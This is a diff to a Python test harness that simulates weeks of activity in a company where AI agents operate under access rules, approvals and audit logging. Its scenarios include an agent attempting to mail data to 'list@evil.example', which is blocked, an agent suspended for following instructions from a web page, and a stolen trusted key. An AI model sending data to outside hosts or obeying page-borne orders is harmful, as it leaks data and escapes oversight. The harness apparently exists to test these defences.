@@ -75,9 +75,9 @@ def verified(name: str, issuer: str) -> Human:
     return Human.from_id_token(token, jwks=keys, issuer=issuer, audience="desk", now=now)
 
 
-def simulate(root: Path, seed: int = 1) -> Company:
+def simulate(root: Path, seed: int = 1, weeks: int = world.DAYS // 7) -> Company:
     """Let five weeks go by, and return what happened."""
-    return anyio.run(partial(_Weeks(root, seed).run), backend="asyncio")
+    return anyio.run(partial(_Weeks(root, seed).run, weeks), backend="asyncio")
 
 
 class _Weeks:
@@ -88,6 +88,7 @@ class _Weeks:
         self.libraries = Libraries("finance", self.truth, self.clock.wall_ns)
         self.alice = verified("alice@example.com", world.LOGIN)
         self.erin = verified("erin@partner.example.net", world.PARTNER)
+        self.bob = verified("bob@example.com", world.LOGIN)
         self.processes, self.digests = 1, dict[str, str]()
         self.places = {
             name: Place(
@@ -101,13 +102,13 @@ class _Weeks:
             for name, spec in PLACES.items()
         }
 
-    async def run(self) -> Company:
+    async def run(self, weeks: int) -> Company:
         for name in PLACES:
             others = [TrustedKey(STOLEN.public_key, "issuer")] if name == "batch" else []
             found(self.root / name, name, self.clock, self.ids, *others)
         register_agents(self.root / "finance", *world.registrations(), clock=self.clock, ids=self.ids)
         self.digests["fetch"] = self.servers.digest("web", "fetch")
-        for week in range(world.DAYS // 7):
+        for week in range(weeks):
             if 7 * week == VAULT_THEFT:  # What a closed directory has sealed is all that was done there.
                 self.at(VAULT_THEFT, 0)
                 shutil.copy(self.root / "vault" / "log" / "checkpoint", self.root / "kept-checkpoint")
@@ -207,11 +208,11 @@ class _Weeks:
             await self.traced(finance, "pay_invoice", number=f"INV-{day:02}{number:02}", amount=rng.randint(20, 700))
         if not day % 4:
             await finance.asked(
-                "pay_invoice", "four-eyes", "approved", world.BOB, number=f"INV-{day:02}07", amount=1_200 + day
+                "pay_invoice", "four-eyes", "approved", self.bob, number=f"INV-{day:02}07", amount=1_200 + day
             )
         if not day % 7:
             await finance.asked(
-                "pay_invoice", "four-eyes", "rejected", world.BOB, number=f"INV-{day:02}08", amount=1_900 + day
+                "pay_invoice", "four-eyes", "rejected", self.bob, number=f"INV-{day:02}08", amount=1_900 + day
             )
         if day % 5 == 1:
             robot = {"effect": "route", "reason": "policy_routes", "rule": "robot-eyes", "approver": world.GINA.id}
@@ -249,7 +250,9 @@ class _Weeks:
         if day in (ACCEPTED, CHANGED_BACK):
             reason = "reviewed by it@example.com" if day == ACCEPTED else "back to the old text"
             self.clock.advance(1)
-            finance.event("accepted", kind="web", name="fetch", after=self.servers.digest("web", "fetch"), reason=reason)
+            finance.event(
+                "accepted", kind="web", name="fetch", after=self.servers.digest("web", "fetch"), reason=reason
+            )
             finance.settle_definition("web", reason)
             await finance.sessions["web"].list_tools()
 
@@ -269,21 +272,8 @@ class _Weeks:
                     await finance.do("web/fetch", url=f"https://paper.example.com/{number}", will=changed)
                 else:
                     await self.traced(finance, "web/fetch", url=f"https://paper.example.com/{number}")
-            await self.traced(finance, "crm/find", name=rng.choice(("ada", "emil", "ines")))
-            if not day % 5:
-                out = {"outcome": "denied", "effect": "block", "rule": "mail-stays-inside"}
-                out |= {"reason": "policy_blocks", "error": "policy_blocks"}
-                await finance.do("send_mail", to="list@evil.example", will=out)
-            if day % 6 == 1:
-                never = {"outcome": "denied", "effect": "block", "reason": "tool_not_granted"}
-                await finance.do("pay_invoice", number="INV-9999", amount=4_200, will={**never, "error": "tool_not_granted"})
-            if day == SUSPENDED:
-                finance.revoke("agent", "researcher", "follows orders of a page", suspend=True)
-                stopped = {"outcome": "denied", "effect": "block", "reason": "suspended", "error": "suspended"}
-                await finance.do("web/search", words="bargains", will=stopped)
-                self.clock.advance(3_600)
-                finance.reinstate("agent", "researcher")
-                await finance.do("web/search", words="paper again")
+            await self.traced(finance, "crm/find", name=rng.choice(("ada", "emil", "iris")))
+            await self.strays(finance, day)
         if day < 12:
             with finance.task("look for stale pages", world.CAROL, world.SCANNER, Scope({"web/search": None})):
                 await self.traced(finance, "web/search", words="stale")
@@ -304,6 +294,25 @@ class _Weeks:
                 scope=Scope({"web/search": None}),
             )
             finance.refused_opening("agent_retired", world.SCANNER, again)
+
+    async def strays(self, finance: Place, day: int) -> None:
+        """Try what is refused: what a rule is about, what was never granted, and what is suspended."""
+        if not day % 5:
+            out = {"outcome": "denied", "effect": "block", "rule": "mail-stays-inside"}
+            out |= {"reason": "policy_blocks", "error": "policy_blocks"}
+            await finance.do("send_mail", to="list@evil.example", will=out)
+        if day % 6 == 1:
+            never = {"outcome": "denied", "effect": "block", "reason": "tool_not_granted"}
+            await finance.do(
+                "pay_invoice", number="INV-9999", amount=4_200, will={**never, "error": "tool_not_granted"}
+            )
+        if day == SUSPENDED:
+            finance.revoke("agent", "researcher", "follows orders of a page", suspend=True)
+            stopped = {"outcome": "denied", "effect": "block", "reason": "suspended", "error": "suspended"}
+            await finance.do("web/search", words="bargains", will=stopped)
+            self.clock.advance(3_600)
+            finance.reinstate("agent", "researcher")
+            await finance.do("web/search", words="paper again")
 
     async def leaving(self, finance: Place) -> None:
         """Stop a person in the middle of a task; what was begun for her is refused from then on."""
@@ -336,9 +345,7 @@ class _Weeks:
                 await support.do("send_reply", to="kim@example.com", text="done")
                 if day % 4 == 1:
                     answer = "approved" if day % 8 == 1 else "rejected"
-                    await support.asked(
-                        "refund", "flow", answer, world.DORA, account=world.FOREIGN, amount=50
-                    )
+                    await support.asked("refund", "flow", answer, world.DORA, account=world.FOREIGN, amount=50)
             if day % 5 == 2:
                 kept = {"outcome": "denied", "effect": "block", "rule": "accounts-stay", "withheld": True}
                 kept |= {"reason": "policy_blocks", "error": "content_blocked"}
@@ -346,7 +353,9 @@ class _Weeks:
 
     async def lab(self, day: int) -> None:
         lab = self.places["lab"]
-        with lab.task("try things", world.DAVE, world.PROBE, Scope({"look": None, "shred": None} if day % 2 else {"look": None})):
+        with lab.task(
+            "try things", world.DAVE, world.PROBE, Scope({"look": None, "shred": None} if day % 2 else {"look": None})
+        ):
             await lab.do("look", words="around")
             await lab.do("look", words="again")
             blocked = {"effect": "block", "rule": "keep-all", "reason": "policy_blocks"}
@@ -434,10 +443,9 @@ class _Weeks:
         how = {CRASH: "exit", KILL: "kill", ELSEWHERE: "work"}[day]
         told = self.root / f"told-{day}.jsonl"
         words = [sys.executable, str(PROGRAM), str(self.root), str(self.clock.wall_ns()), how, str(told)]
-        done = subprocess.run(words, check=False, capture_output=True, text=True)  # noqa: S603  Our own program.
+        done = subprocess.run(words, check=False, capture_output=True, text=True)
         if done.returncode != {"exit": 9, "kill": -9, "work": 0}[how]:
             raise AssertionError(done.stderr)
         self.processes += 1
         self.truth.join(told)
         self.clock.advance(60)
-
